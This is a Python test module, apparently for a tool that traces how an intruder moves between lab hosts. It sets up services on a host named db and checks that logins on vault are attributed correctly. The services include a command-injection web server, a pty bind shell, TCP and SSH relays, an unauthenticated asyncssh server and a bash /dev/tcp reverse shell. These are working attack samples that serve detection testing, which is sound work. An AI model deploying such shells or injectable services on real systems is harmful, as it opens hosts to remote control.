"""Ways through a service of db that is exploited and goes on, as web's intruder uses it."""

import os
import shutil
import sys

from ways import scene

HTTP = """
import http.server, subprocess, sys, urllib.parse
class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def do_GET(self):
        query = urllib.parse.parse_qs(urllib.parse.urlparse(self.path).query)
        done = subprocess.run(query["host"][0], shell=True, capture_output=True)
        self.send_response(200)
        self.send_header("Content-Length", str(len(done.stdout)))
        self.end_headers()
        self.wfile.write(done.stdout)
    def log_message(self, *_): pass
server = http.server.HTTPServer if sys.argv[2] == "loop" else http.server.ThreadingHTTPServer
server(("0.0.0.0", int(sys.argv[1])), Handler).serve_forever()
"""
# Opens a connection to vault's sshd for each client, and passes bytes between the two.
RELAY = """
import socket, sys, threading
def carry(source, target):
    try:
        while data := source.recv(65536): target.sendall(data)
    except OSError: pass
    try: target.shutdown(socket.SHUT_WR)
    except OSError: pass
listener = socket.create_server(("0.0.0.0", int(sys.argv[1])))
while True:
    near, _ = listener.accept()
    far = socket.create_connection(("fd71:4::30", 22))
    for pair in ((near, far), (far, near)):
        threading.Thread(target=carry, args=pair, daemon=True).start()
"""
FORKING = """
import os, socket, subprocess, sys
listener = socket.create_server(("0.0.0.0", int(sys.argv[1])))
while True:
    near, _ = listener.accept()
    if os.fork() == 0:
        listener.close()
        command = near.makefile().readline()
        near.sendall(subprocess.run(command, shell=True, capture_output=True).stdout)
        os._exit(0)
    near.close()
"""
BIND_SHELL = """
import os, pty, socket, sys
listener = socket.create_server(("0.0.0.0", int(sys.argv[1])))
near, _ = listener.accept()
pty.spawn(["/bin/sh"], lambda fd: os.read(fd, 1024), lambda fd: near.recv(1024))
"""


ASYNCSSH = """
import asyncio, asyncssh, sys
async def handle(process):
    done = await asyncio.create_subprocess_shell(process.command, stdout=asyncio.subprocess.PIPE)
    process.stdout.write((await done.communicate())[0].decode())
    process.exit(0)
class Server(asyncssh.SSHServer):
    def begin_auth(self, username): return False
async def main():
    key = asyncssh.generate_private_key("ssh-ed25519")
    await asyncssh.create_server(Server, "", int(sys.argv[1]), server_host_keys=[key], process_factory=handle)
    await asyncio.Event().wait()
asyncio.run(main())
"""
HAPROXY = """
defaults
  mode tcp
  timeout connect 5s
  timeout client 60s
  timeout server 60s
frontend in
  bind :PORT
  default_backend out
backend out
  server vault [fd71:4::30]:22
"""


class Services(scene.Scene):
    def python(self, text, *arguments, name):
        self.db.write_file(f"/srv/{name}.py", text)
        return [sys.executable, f"/srv/{name}.py", *arguments]

    def service(self, text, port, *arguments, name):
        self.serve(self.db, f"{name}.service", self.python(text, str(port), *arguments, name=name), port)

    def get(self, port, command):
        self.shell.run(f"{sys.executable} -c 'import urllib.request as r, urllib.parse as p, sys;"
                       f" print(r.urlopen(\"http://{scene.DB}:{port}/?host=\" + p.quote(sys.argv[1])).read())'"
                       f" '{command}'")

    def test_web_service_with_command_injection_in_one_process(self):
        self.service(HTTP, 8081, "loop", name="loop")
        with self.one_login_on_vault():
            self.get(8081, f"{scene.SSH_TO_VAULT} id")
        self.check_line("web service with command injection, one process (event loop)", self.in_line(
            ("db", "driven service loop.service (root)", scene.PROVEN), last=scene.INFERRED))

    def test_web_service_with_command_injection_in_threads(self):
        self.service(HTTP, 8082, "threads", name="threads")
        with self.one_login_on_vault():
            self.get(8082, f"{scene.SSH_TO_VAULT} id")
        self.check_line("web service with command injection, threads", self.in_line(
            ("db", "driven service threads.service (root)", scene.PROVEN), last=scene.INFERRED))

    def test_web_service_with_command_injection_that_forks(self):
        self.service(FORKING, 8083, name="forking")
        with self.one_login_on_vault():
            self.shell.run(f"exec 3<>/dev/tcp/{scene.DB}/8083; echo '{scene.SSH_TO_VAULT} id' >&3; cat <&3; exec 3>&-")
        self.check_line("web service with command injection, a process for each connection", self.in_line(
            ("db", "a connection to python3.11 (root)", scene.PROVEN)))

    def test_relay_in_threads(self):
        self.service(RELAY, 8084, name="relay")
        with self.one_login_on_vault():
            self.login_through(8084)
        self.check_line("relay in threads of one process", self.in_line(
            ("db", "driven service relay.service (root)", scene.PROVEN), last=scene.INFERRED))

    def login_through(self, port):
        """deploy's own ssh client, to the sshd that a relay on db leads to."""
        with open(self.bench.fleet.keys["db-to-vault"].private, encoding="utf-8") as file:
            self.web.write_file("/home/deploy/id_vault", file.read(), "600")
        self.web.run(["chown", "deploy", "/home/deploy/id_vault"])
        self.shell.run(f"ssh -n -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null"
                       f" -i /home/deploy/id_vault -p {port} root@{scene.DB} id")

    def test_relay_that_forks(self):
        self.serve(self.db, "socat.service", ["socat", "TCP-LISTEN:8085,fork,reuseaddr", "TCP:[fd71:4::30]:22"], 8085)
        with self.one_login_on_vault():
            self.login_through(8085)
        self.check_line("relay that forks (socat)", self.in_line(
            ("db", "a connection to socat (root)", scene.PROVEN)))

    def test_relay_of_haproxy(self):
        self.db.write_file("/srv/haproxy.cfg", HAPROXY.replace("PORT", "8086"))
        self.serve(self.db, "haproxy.service", ["/usr/sbin/haproxy", "-f", "/srv/haproxy.cfg", "-db"], 8086)
        with self.one_login_on_vault():
            self.login_through(8086)
        self.check_line("relay (haproxy)", self.in_line(
            ("db", "driven service haproxy.service (root)", scene.PROVEN), last=scene.INFERRED))

    def test_ssh_server_in_one_process(self):
        self.service(ASYNCSSH, 8087, name="sshserver")
        with self.one_login_on_vault():
            self.shell.run(f"ssh -n -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null"
                           f" -p 8087 any@{scene.DB} '{scene.SSH_TO_VAULT} id'")
        self.check_line("SSH server in one process (asyncssh)", self.in_line(
            ("db", "driven service sshserver.service (root)", scene.PROVEN), last=scene.INFERRED))

    def test_shell_on_a_terminal_of_one_process(self):
        self.service(BIND_SHELL, 8088, name="bindshell")
        with self.one_login_on_vault():
            self.shell.run(f"exec 3<>/dev/tcp/{scene.DB}/8088; echo '{scene.SSH_TO_VAULT} id; exit' >&3; sleep 2; exec 3>&-")
        self.check_line("bind shell in one process (pty.spawn)", self.in_line(
            ("db", "driven service bindshell.service (root)", scene.PROVEN), last=scene.INFERRED))

    def test_reverse_shell_of_a_service(self):
        """A service of db connects to a listener of web's intruder and does what it says."""
        self.shell.run(f"(echo '{scene.SSH_TO_VAULT} id; exit' | timeout 20 socat - TCP-LISTEN:4444 >/dev/null 2>&1 &)")
        self.wait_listening(self.web, 4444)
        with self.one_login_on_vault():
            self.start(self.db, ["bash", "-c", f"bash -i >& /dev/tcp/{scene.WEB}/4444 0>&1"],
                       self.group("db", "system.slice", "reverse.service"))
        self.check_line("reverse shell of a service", self.in_line(
            ("db", "driven service reverse.service (root)", scene.PROVEN), last=scene.INFERRED))

    def test_relay_that_a_login_left_behind(self):
        """The administrator of db left it running: she is not the one who uses it."""
        self.administrator._db.run(f"setsid {' '.join(self.python(RELAY, '8089', name='leftover'))} >/dev/null 2>&1 </dev/null &")
        self.wait_listening(self.db, 8089)
        with self.one_login_on_vault():
            self.login_through(8089)
        self.check_line("relay that somebody else's login left behind", self.in_line(
            ("db", "driven admin", scene.PROVEN), last=scene.INFERRED))

    def test_forwarded_port_that_somebody_else_uses(self):
        """ssh -L of the administrator of db: what comes over the tunnel is not hers."""
        key = f"{self.db.home('admin')}/.ssh/id_tunnel"
        shutil.copy(self.db.path("/srv/id_vault"), key)
        os.chown(key, 2003, 2003)
        with self.one_login_on_vault():
            self.administrator._db.run(f"{scene.intruder.SSH} -f -N -i ~/.ssh/id_tunnel"
                                       " -L 0.0.0.0:8090:[fd71:4::30]:22 root@vault </dev/null >/dev/null 2>&1")
        self.wait_listening(self.db, 8090)
        with self.one_login_on_vault():
            self.login_through(8090)
        self.check_line("`ssh -L` that somebody else uses at its near end", self.in_line(
            ("db", "driven admin", scene.PROVEN), ("vault", "driven root", scene.INFERRED), last=scene.INFERRED))
